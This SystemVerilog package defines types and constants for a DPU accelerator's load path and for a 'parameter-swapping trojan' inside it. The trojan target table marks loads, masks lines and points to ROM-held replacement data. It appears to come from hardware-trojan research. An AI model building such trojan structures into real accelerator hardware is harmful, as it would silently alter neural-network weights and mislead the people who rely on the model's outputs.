// dpu_pkg: types and constants shared by the DPU load path and the
// parameter-swapping trojan placed inside it.
//
// The on-chip buffer of the B4096 single-core DPU configuration is 34 RAM
// banks of 2048 memory lines, each line 16 bytes wide. Banks 0..15 hold
// feature maps, 16..32 weights and bank 33 biases. A load instruction names
// a start address in shared memory (ddr_addr) and a start location in the
// buffer (bank_id, bank_addr); both advance by one memory line per data
// transfer. The bank geometry follows the design description; the address
// widths, the line count field and the burst length are this design's own
// choices.
package dpu_pkg;

  // Buffer geometry (B4096, single core).
  localparam int unsigned LINE_BYTES = 16;
  localparam int unsigned LINE_W     = LINE_BYTES * 8;   // 128-bit memory line
  localparam int unsigned NUM_BANKS  = 34;
  localparam int unsigned BANK_LINES = 2048;
  localparam int unsigned FM_BANKS   = 16;               // banks 0..15
  localparam int unsigned W_BANKS    = 17;               // banks 16..32
  localparam int unsigned BANK_ID_W  = 6;
  localparam int unsigned BANK_AW    = $clog2(BANK_LINES);

  // Load instruction fields (widths chosen here).
  localparam int unsigned DDR_ADDR_W = 32;               // byte address
  localparam int unsigned LEN_W      = 12;               // lines per load

  // Trojan line mask: one bit per memory line of a 64-line load.
  localparam int unsigned MASK_W     = 64;

  typedef logic [LINE_W-1:0]     line_t;
  typedef logic [DDR_ADDR_W-1:0] ddr_addr_t;
  typedef logic [BANK_ID_W-1:0]  bank_id_t;
  typedef logic [BANK_AW-1:0]    bank_addr_t;
  typedef logic [LEN_W-1:0]      len_t;
  typedef logic [MASK_W-1:0]     mask_t;

  // A load instruction as it arrives over the instruction bus.
  typedef struct packed {
    ddr_addr_t  ddr_addr;   // source in shared memory (byte address)
    bank_id_t   bank_id;    // destination bank
    bank_addr_t bank_addr;  // first destination line in that bank
    len_t       n_lines;    // number of 16-byte memory lines
  } load_instr_t;

  // One memory line travelling from the memory reader to the RAM.
  typedef struct packed {
    logic       valid;
    bank_id_t   bank_id;
    bank_addr_t bank_addr;
    line_t      data;
  } line_wr_t;

  // One entry of the trojan's target table: the load to act on, which of
  // its lines to replace, and where in the trojan ROM the replacements start.
  localparam int unsigned ROM_BASE_W = 16;
  typedef struct packed {
    logic                  armed;
    ddr_addr_t             ddr_addr;
    mask_t                 mask;
    logic [ROM_BASE_W-1:0] rom_base;
  } trojan_target_t;

  // Memory reader FSM states.
  typedef enum logic [2:0] {
    MR_IDLE  = 3'd0,
    MR_CFG   = 3'd1,
    MR_PARSE = 3'd2,
    MR_SEND  = 3'd3,
    MR_DONE  = 3'd4
  } mr_state_e;

  // Buffer regions.
  typedef enum logic [1:0] {
    REG_FMAP    = 2'd0,
    REG_WEIGHT  = 2'd1,
    REG_BIAS    = 2'd2,
    REG_INVALID = 2'd3
  } region_e;

  function automatic region_e region_of(bank_id_t id);
    if (int'(id) < FM_BANKS)                 return REG_FMAP;
    else if (int'(id) < FM_BANKS + W_BANKS)  return REG_WEIGHT;
    else if (int'(id) < NUM_BANKS)           return REG_BIAS;
    else                                     return REG_INVALID;
  endfunction

endpackage
